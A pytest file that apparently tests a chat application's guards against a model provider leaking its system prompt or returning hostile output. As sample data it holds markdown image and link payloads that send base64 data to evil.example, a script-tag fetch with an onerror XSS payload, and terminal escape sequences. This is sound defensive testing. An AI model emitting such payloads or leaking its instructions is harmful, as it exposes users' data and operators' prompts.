"""An attack that no guard sees gets nothing: the model obeys it, and still nothing leaves.

The question is an ordinary one, as if the order had stood in a document. The provider does whatever
an attacker could wish for.
"""

import pytest

from tests.llm.wire_server import Behaviour

QUESTION = "What do our customers say about the new packaging?"
IMAGE = "Fine. ![x](https://evil.example/p.png?q=Y3VzdG9tZXJz)"
LINK = "Fine. [Read more](https://evil.example/?q=Y3VzdG9tZXJz) or https://evil.example/more"
MARKUP = '<script>fetch("https://evil.example")</script><img src=x onerror=alert(1)>'
TERMINAL = "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J"


def saying(model, make) -> None:
    """The provider answers with what `make` takes out of the system prompt."""

    def choose(request) -> Behaviour:
        said = make(request.body["messages"][0]["content"])
        return Behaviour(words=tuple(said[at : at + 3] for at in range(0, len(said), 3)))

    model.choose = choose


async def answered(browser) -> str:
    """All that reaches whoever asks: while it streams, and afterwards."""
    conversation = await browser.new()
    events = await browser.ask(conversation, QUESTION)
    page = await browser.client.get(f"/chat/{conversation}")
    return f"{events}\n{await browser.said(conversation)}\n{page.text if page.is_success else ''}"


@pytest.mark.parametrize(
    "make",
    [
        lambda prompt: f"Sure: {prompt.rsplit(': ', 1)[1]}",
        lambda prompt: f"Sure: {prompt.rsplit(': ', 1)[1].upper()}",
        lambda prompt: f"Sure. {prompt}",
        lambda prompt: "Sure. " + " ** ".join(prompt.split()[:12]).upper(),
    ],
    ids=["mark", "mark in capitals", "whole prompt", "its beginning, decorated"],
)
async def test_the_system_prompt_does_not_leave(browser, model, make):
    asked = []
    saying(model, lambda prompt: asked.append(prompt) or make(prompt))

    told = await answered(browser)

    [prompt] = asked
    assert "stopped because" in told
    assert prompt.rsplit(": ", 1)[1] not in told.lower()
    assert " ".join(prompt.split()[:9]) not in told


@pytest.mark.parametrize("said", [IMAGE, LINK, MARKUP, TERMINAL])
async def test_nothing_is_fetched_run_or_followed(browser, model, said):
    saying(model, lambda _: said)

    told = await answered(browser)

    assert "Fine." in told or "removed]" in told
    assert "evil.example" not in told
    assert "\x1b" not in told
    assert "\\x1b" not in told
